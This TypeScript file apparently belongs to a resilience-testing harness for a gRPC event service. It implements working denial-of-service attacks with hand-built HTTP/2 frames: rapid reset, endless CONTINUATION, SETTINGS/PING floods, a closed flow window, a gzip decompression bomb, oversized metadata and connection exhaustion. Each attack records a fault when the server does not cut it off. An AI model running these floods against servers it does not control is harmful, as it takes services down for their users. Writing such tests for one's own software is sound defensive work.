// Against the gRPC port in frames of HTTP/2 made by hand (RFC 9113 §4): rapid reset (CVE-2023-44487), endless CONTINUATION (CVE-2024-27983),
// floods of SETTINGS and PING, a window that never opens, metadata too large, a compressed bomb as a message, many connections.

import { constants } from 'node:http2'
import { setTimeout as sleep } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import type { Attack, Deeds } from './attack.ts'
import { dropAll, type Held, open, openHttp2, openMany, openOf, watchClosing } from './sockets.ts'

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const type = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const
const endHeaders = 4

function frame(kind: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = kind
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const hello = Buffer.concat([preface, frame(type.settings, 0, 0, Buffer.alloc(0))])

/** HPACK (RFC 7541 §6.2.2): a literal without indexing; names and values below 127 bytes. */
const literal = (name: string, value: string): Buffer =>
  Buffer.concat([Buffer.of(0, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)])

const callHeaders = (method: string): Buffer =>
  Buffer.concat([
    // Indexed: :method POST, :scheme http.
    Buffer.of(0x83, 0x86),
    literal(':path', `/tocsin.v1.EventService/${method}`),
    literal(':authority', 'localhost'),
    literal('content-type', 'application/grpc'),
    literal('te', 'trailers'),
  ])

/** `count` connections that each pour what `round` gives. */
async function flood(
  { grpc, seconds }: { grpc: number; seconds: number },
  connections: number,
  round: (n: number) => Buffer,
): Promise<Deeds & { held: Held[]; sentBytes: number }> {
  const held = await openMany(connections, () => {
    const one = open(grpc)
    one.socket.write(hello)
    return one
  })
  const sent = await Promise.all(
    held.map(async (one) => {
      let bytes = 0
      const end = performance.now() + seconds * 1_000
      for (let n = 0; !one.socket.destroyed && performance.now() < end; n++) {
        const piece = round(n)
        bytes += piece.length
        if (!one.socket.write(piece))
          await Promise.race([new Promise((resolve) => one.socket.once('drain', resolve)), sleep(200)])
        else await sleep(0)
      }
      return bytes
    }),
  )
  const cut = connections - openOf(held)
  dropAll(held)
  const sentBytes = sent.reduce((sum, each) => sum + each, 0)
  return {
    text: `${connections} connections, ${(sentBytes / 1e6).toFixed(1)} MB of frames; ${cut} were cut`,
    faults: [],
    held,
    sentBytes,
  }
}

const streamsPerRound = 100

export const rapidReset: Attack = {
  name: 'rapid-reset',
  about: 'HTTP/2 rapid reset: streams opened and reset at once (CVE-2023-44487)',
  counts: { test: 4, full: 20 },
  async run(target) {
    const headers = callHeaders('Subscribe')
    const cancel = Buffer.of(0, 0, 0, 8)
    const deeds = await flood(target, target.count, (n) =>
      Buffer.concat(
        Array.from({ length: streamsPerRound }, (_, i) => {
          const id = (n * streamsPerRound + i) * 2 + 1
          return Buffer.concat([frame(type.headers, endHeaders, id, headers), frame(type.reset, 0, id, cancel)])
        }),
      ),
    )
    const each = (headers.length + 9 + 4 + 9) * target.count
    const left = deeds.held.filter(
      ({ closedMs, openedMs }) => (closedMs ?? Infinity) - openedMs > target.seconds * 1_000 + 500,
    )
    return {
      text: `${deeds.text}; ${Math.round(deeds.sentBytes / (each / target.count))} streams`,
      faults: left.length > 0 ? [`${left.length} connections went on resetting`] : [],
    }
  },
}

export const continuations: Attack = {
  name: 'continuation',
  about: 'HTTP/2 headers that never end: CONTINUATION after CONTINUATION (CVE-2024-27983)',
  counts: { test: 2, full: 10 },
  async run(target) {
    const more = literal('x-more', 'y'.repeat(100))
    const deeds = await flood(target, target.count, (n) =>
      n === 0
        ? frame(type.headers, 0, 1, callHeaders('Subscribe'))
        : Buffer.concat(Array.from({ length: 100 }, () => frame(type.continuation, 0, 1, more))),
    )
    const isLeft = deeds.sentBytes > 50e6 * target.count
    return { text: deeds.text, faults: isLeft ? ['CONTINUATION was taken without end'] : [] }
  },
}

export const settingsFlood: Attack = {
  name: 'settings-ping',
  about: 'floods of SETTINGS and PING whose acknowledgements are not read (CVE-2019-9512, -9515)',
  counts: { test: 2, full: 10 },
  run: async (target) => {
    const ping = frame(type.ping, 0, 0, Buffer.alloc(8))
    const settings = frame(type.settings, 0, 0, Buffer.alloc(0))
    const many = Buffer.concat(Array.from({ length: 500 }, (_, i) => (i % 2 === 0 ? ping : settings)))
    const { text, faults } = await flood(target, target.count, () => many)
    return { text, faults }
  },
}

export const closedWindow: Attack = {
  name: 'http2-window',
  about: 'streams of everything whose window never opens (CVE-2019-9517)',
  counts: { test: 4, full: 40 },
  async run({ grpc, seconds, count }) {
    const sessions = Array.from({ length: count }, () => {
      const session = openHttp2(grpc, { initialWindowSize: 0 })
      session.on('error', () => {})
      return session
    })
    let refused = 0
    for (const session of sessions) {
      for (let i = 0; i < 20; i++) {
        const stream = session.request({
          ':method': 'POST',
          ':path': '/tocsin.v1.EventService/Subscribe',
          'content-type': 'application/grpc',
          te: 'trailers',
        })
        stream.on('error', () => {})
        stream.on('response', (headers) => headers['grpc-status'] !== undefined && refused++)
        // earliest: field 4 of SubscribeRequest, empty.
        stream.end(Buffer.from([0, 0, 0, 0, 2, 0x22, 0]))
      }
    }
    await sleep(1_000 + seconds * 1_000)
    sessions.forEach((session) => session.destroy())
    return { text: `${count * 20} streams on ${count} connections, ${refused} refused`, faults: [] }
  },
}

/** One call, and its status. */
function call(grpc: number, headers: Record<string, string>, body: Buffer): Promise<string> {
  return new Promise((resolve) => {
    const session = openHttp2(grpc)
    const over = (what: string): void => {
      session.destroy()
      resolve(what)
    }
    session.on('error', (error) => over(`cut (${error.message})`))
    setTimeout(() => over('no answer'), 5_000).unref()
    const stream = session.request({
      ':method': 'POST',
      ':path': '/tocsin.v1.EventService/Publish',
      'content-type': 'application/grpc',
      te: 'trailers',
      ...headers,
    })
    let status = ''
    const note = (from: Record<string, unknown>): void => void (status = String(from['grpc-status'] ?? status))
    stream.on('error', (error) => over(`reset (${error.message})`))
    stream.on('response', (answer) => {
      status = `http ${answer[constants.HTTP2_HEADER_STATUS]}`
      note(answer)
    })
    stream.on('trailers', note)
    stream.on('close', () => over(status === '' ? 'reset' : status))
    stream.resume()
    stream.end(body)
  })
}

/** gRPC's own: compressed, then its length (PROTOCOL-HTTP2). */
function compressed(bytes: Uint8Array): Buffer {
  const head = Buffer.alloc(5)
  head[0] = 1
  head.writeUInt32BE(bytes.length, 1)
  return Buffer.concat([head, bytes])
}

export const grpcBombs: Attack = {
  name: 'grpc-bomb',
  about: 'gRPC messages of 1 MB that are 1 GB when unpacked (gzip), and metadata of 200 kB',
  counts: { test: 3, full: 40 },
  async run({ grpc, count }) {
    const bomb = gzipSync(Buffer.alloc(1_000_000_000 / (count > 10 ? 1 : 20)), { level: 9 })
    const seen = new Map<string, number>()
    const tell = (what: string): void => void seen.set(what, (seen.get(what) ?? 0) + 1)
    for (let i = 0; i < count; i++) tell(`bomb: ${await call(grpc, { 'grpc-encoding': 'gzip' }, compressed(bomb))}`)
    for (let i = 0; i < count; i++)
      tell(`metadata: ${await call(grpc, { 'x-large': 'x'.repeat(200_000) }, Buffer.alloc(5))}`)
    const taken = [...seen.keys()].filter((what) => what.endsWith(': 0') || what.endsWith('no answer'))
    return { text: [...seen].map(([what, times]) => `${what} ×${times}`).join(', '), faults: taken }
  },
}

export const grpcConnections: Attack = {
  name: 'grpc-connections',
  about: 'connections to the gRPC port that say nothing',
  counts: { test: 1_200, full: 3_000 },
  async run({ grpc, count }) {
    const held = await openMany(count, () => open(grpc))
    await sleep(3_000)
    const most = openOf(held)
    const { left, longestMs } = await watchClosing(held, 25_000)
    dropAll(held)
    return {
      text: `${count} opened, ${most} of them taken, the last closed after ${(longestMs / 1_000).toFixed(1)} s`,
      faults: [
        ...(most > 512 ? [`${most} connections of one address`] : []),
        ...(left > 0 ? [`${left} still open`] : []),
      ],
    }
  },
}
